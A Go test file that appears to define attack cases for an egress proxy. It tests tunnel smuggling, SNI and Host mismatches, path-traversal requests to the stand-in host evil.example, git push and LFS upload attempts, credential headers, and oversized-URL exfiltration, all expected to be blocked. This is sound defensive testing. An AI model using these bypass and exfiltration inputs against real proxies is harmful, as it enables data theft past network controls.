package netproxy

import "strings"

// D. tunnels and TLS; E. reads only.

func tunnelAttacks() []attack {
	inside := func(line string, headers ...string) shot {
		return shot{tls: "allowed.test", line: line, headers: headers}
	}
	return []attack{
		{id: "P48", name: "tunnel-not-tls", profile: "both", control: []shot{secureGet}, want: `"sni":"allowed.test"`,
			shots: shots(shot{connect: "allowed.test:443", raw: "SSH-2.0-evil\r\n"}, shot{connect: "allowed.test:443", raw: "GET /EXFIL HTTP/1.1\r\nHost: allowed.test\r\n\r\n"},
				shot{connect: "allowed.test:443", raw: "\x16\x03\x01\x00\x05EXFIL"}, shot{connect: "allowed.test:443", raw: "\x16\x03\x01\x40\x01" + strings.Repeat("EXFIL", 5000)}),
			status: []int{0}, reached: `SSH|EXFIL|"method"`},
		{id: "P49", name: "sni-mismatch", profile: "both", control: []shot{secureGet}, want: `"sni":"allowed.test"`,
			shots: shots(shot{tls: "allowed.test", sni: "denied.test", line: "GET / HTTP/1.1", headers: []string{"Host: denied.test"}},
				shot{tls: "allowed.test", sni: "sub.wild.test", line: "GET / HTTP/1.1"}, shot{tls: "allowed.test", sni: "-", line: "GET / HTTP/1.1"}),
			status: []int{0}, reached: `"sni"|"method"`},
		{id: "P51", name: "inner-host-mismatch", profile: "gateway", control: []shot{secureGet}, want: `"sni":"allowed.test"`,
			shots:  shots(inside("GET / HTTP/1.1", "Host: denied.test"), inside("GET / HTTP/1.1", "Host: sub.wild.test")),
			status: []int{421}, reached: `"method"`},
		{id: "P53", name: "inner-connect", profile: "gateway", control: []shot{secureGet}, want: `"sni":"allowed.test"`,
			shots: shots(inside("CONNECT denied.test:443 HTTP/1.1", "Host: denied.test:443"), inside("CONNECT allowed.test:443 HTTP/1.1", "Host: allowed.test"),
				inside("GET http://denied.test/ HTTP/1.1", "Host: denied.test"), inside("GET https://allowed.test/ HTTP/1.1", "Host: allowed.test")),
			status: []int{400}, reached: `127\.0\.1\.2|"method"`},
		{id: "P54", name: "inner-port", profile: "gateway", control: []shot{inside("GET / HTTP/1.1", "Host: allowed.test:443")}, want: `"sni":"allowed.test"`,
			shots:  shots(inside("GET / HTTP/1.1", "Host: allowed.test:8443"), inside("GET / HTTP/1.1", "Host: allowed.test:80")),
			status: []int{421}, reached: `"port":"8443"|"method"`},
		{id: "P56", name: "alt-svc", profile: "gateway", control: []shot{secureGet}, want: `"sni":"allowed.test"`,
			shots: shots(secureGet), status: []int{200}, answered: `(?i)alt-svc`, both: true},
		{id: "P74", name: "module-mirror-exfil", profile: "gateway",
			gateway: Gateway{Mirrors: []Mirror{{Host: "allowed.test", Origins: []string{"origin.test/acme", "lib.test"}}}},
			control: []shot{inside("GET /origin.test/acme/!x/@v/list HTTP/1.1", "Host: allowed.test"), inside("GET /lib.test/@latest HTTP/1.1", "Host: allowed.test"),
				inside("GET /sumdb/sum.test/tile/8/0/x001/234 HTTP/1.1", "Host: allowed.test"), inside("GET /sumdb/sum.test/lookup/lib.test@v1.0.0 HTTP/1.1", "Host: allowed.test")},
			want: `(?s)/origin.test/acme/!x/@v/list.*/lib.test/@latest.*/tile/8/0/x001/234.*lookup/lib.test@`,
			shots: func(*rig) []shot {
				var list []shot
				for _, p := range []string{"/evil.example/SECRET/@v/list", "/origin.test/acme-evil.example/@v/list", "/origin.test/acme/../../evil.example/@v/list",
					"/origin.test/acme/%2e%2e/%2e%2e/evil.example/@v/list", "//evil.example/@v/list", "/sumdb/sum.test/lookup/evil.example@v1", "/lib.test.evil.example/@latest",
					"/sumdb/evil.example/other", "/Lib.test/../evil.example/@v/list"} {
					list = append(list, inside("GET "+p+" HTTP/1.1", "Host: allowed.test"), inside("HEAD "+p+" HTTP/1.1", "Host: allowed.test"),
						get("http://allowed.test"+p, "Host: allowed.test"))
				}
				return list
			}, status: []int{403}, reached: `"method"`},
	}
}

func writeAttacks() []attack {
	page := func(line, body string, headers ...string) shot {
		return shot{tls: "allowed.test", line: line, body: body, headers: append([]string{"Host: allowed.test"}, headers...)}
	}
	fetch := []string{"Host: git.test", "Content-Type: application/x-git-upload-pack-request"}
	git := func(line, body string, headers ...string) shot {
		return shot{tls: "git.test", line: line, body: body, headers: headers}
	}
	gitControls := []shot{git("GET /o/r.git/info/refs?service=git-upload-pack HTTP/1.1", "", "Host: git.test"),
		git("POST /o/r.git/git-upload-pack HTTP/1.1", "0000", append(fetch, "Content-Length: 4")...)}
	const gitWant = `"method":"POST".*"uri":"/o/r.git/git-upload-pack"`
	return append([]attack{
		{id: "P58", name: "methods", profile: "gateway", control: []shot{plainGet, secureGet, page("HEAD / HTTP/1.1", "")}, want: `"method":"HEAD"`,
			shots: func(*rig) []shot {
				var list []shot
				for _, m := range []string{"POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "MERGE", "get", "Post"} {
					list = append(list, shot{line: m + " http://allowed.test/x HTTP/1.1", headers: []string{"Host: allowed.test", "Content-Length: 0"}},
						page(m+" /x HTTP/1.1", "", "Content-Length: 0"))
				}
				return list
			}, status: []int{403}, reached: `"method"`},
		{id: "P59", name: "get-with-body", profile: "gateway", control: []shot{page("GET /x HTTP/1.1", "", "Content-Length: 0")}, want: `"uri":"/x"`,
			shots: shots(page("GET /x HTTP/1.1", "EXFIL", "Content-Length: 5"), page("GET /x HTTP/1.1", "5\r\nEXFIL\r\n0\r\n\r\n", "Transfer-Encoding: chunked"),
				page("HEAD /x HTTP/1.1", "EXFIL", "Content-Length: 5")), status: []int{403}, reached: `EXFIL|"method"`},
		{id: "P61", name: "strip-auth", profile: "gateway", control: []shot{secureGet}, want: `"sni":"allowed.test"`,
			shots: shots(page("GET /x HTTP/1.1", "", "Authorization: Bearer SECRET", "authorization: token SECRET", "AUTHORIZATION: x", "Cookie: a=SECRET", "cookie2: x",
				"Proxy-Authorization: Basic SECRET", "User-Agent: SECRET", "X-Http-Method-Override: POST", "Accept: "+strings.Repeat("SECRET", 50), "Referer: SECRET")),
			status: []int{200}, reached: `(?i)"(authorization|cookie|cookie2|proxy-authorization)"|SECRET|override`, both: true},
		{id: "P66", name: "git-receive-post", profile: "gateway", control: gitControls, want: gitWant,
			shots: shots(git("POST /o/r.git/git-receive-pack HTTP/1.1", "0000", "Host: git.test", "Content-Type: application/x-git-receive-pack-request", "Content-Length: 4"),
				git("GET /o/r.git/info/refs?service=git-receive-pack HTTP/1.1", "", "Host: git.test"),
				git("GET /o/r.git/info/refs?service=git-upload-pack&service=git-receive-pack HTTP/1.1", "", "Host: git.test"),
				git("GET /o/r.git/info%2frefs?%73ervice=git-receive-pack HTTP/1.1", "", "Host: git.test")),
			status: []int{403}, reached: `receive-pack`},
		{id: "P68", name: "git-path-tricks", profile: "gateway", control: gitControls, want: gitWant,
			shots: func(*rig) []shot {
				var list []shot
				for _, u := range []string{"/o/r.git/git-receive-pack/../git-upload-pack", "/o/r.git/git-receive-pack;/git-upload-pack",
					"/o/r.git/git-receive-pack%2f..%2fgit-upload-pack", "//denied.test/git-upload-pack", "/o/r.git/git-receive-pack%00/git-upload-pack",
					"/o/r.git/git-receive-pack?x=/git-upload-pack", "/o/r.git/git-upload-pack?", "/o/r.git/git-receive-pack#/git-upload-pack"} {
					list = append(list, git("POST "+u+" HTTP/1.1", "0000", append(fetch, "Content-Length: 4")...))
				}
				return list
			}, status: []int{403, 400}, reached: `"method":"POST"`},
		{id: "P69", name: "git-post-on-package-host", profile: "gateway", control: gitControls, want: gitWant,
			shots: shots(page("POST /o/r.git/git-upload-pack HTTP/1.1", "EXFIL", fetch[1], "Content-Length: 5"),
				git("POST /o/r.git/git-upload-pack HTTP/1.1", "EXFIL", fetch[0], "Content-Type: text/plain", "Content-Length: 5"),
				git("POST /o/r.git/git-upload-pack HTTP/1.1", "EXFIL", append(fetch, "Content-Type: text/plain", "Content-Length: 5")...),
				git("POST /o/r.git/git-upload-pack HTTP/1.1", "", append(fetch, "Content-Length: 8388609")...),
				shot{line: "POST http://git.test/o/r.git/git-upload-pack HTTP/1.1", headers: append(fetch, "Content-Length: 5"), body: "EXFIL"}),
			status: []int{403}, reached: `"method":"POST"`},
		{id: "P71", name: "git-lfs-write", profile: "gateway", control: gitControls, want: gitWant,
			shots: shots(git("POST /o/r.git/info/lfs/objects/batch HTTP/1.1", `{"operation":"upload"}`, "Host: git.test",
				"Content-Type: application/vnd.git-lfs+json", "Content-Length: 22")), status: []int{403}, reached: `"method":"POST"`},
		{id: "P73", name: "url-exfil", profile: "gateway", control: []shot{page("GET /"+strings.Repeat("A", 30)+" HTTP/1.1", "")}, want: `/A{30}"`,
			shots: shots(page("GET /"+strings.Repeat("A", 8000)+" HTTP/1.1", ""), page("GET /"+strings.Repeat("A", 4096)+" HTTP/1.1", ""),
				get("http://allowed.test/"+strings.Repeat("A", 8000), "Host: allowed.test")), status: []int{414}, reached: `A{32}`},
	}, localWrites()...)
}

// localWrites shows that the local profile is no gateway: it passes writes to allowed hosts.
func localWrites() []attack {
	post := shot{line: "POST http://allowed.test/x HTTP/1.1", headers: []string{"Host: allowed.test", "Content-Length: 4"}, body: "data"}
	return []attack{{id: "P58", name: "local-writes-pass", profile: "local", control: []shot{post}, want: `"body":"data"`,
		shots: shots(post), status: []int{200}, both: true}}
}
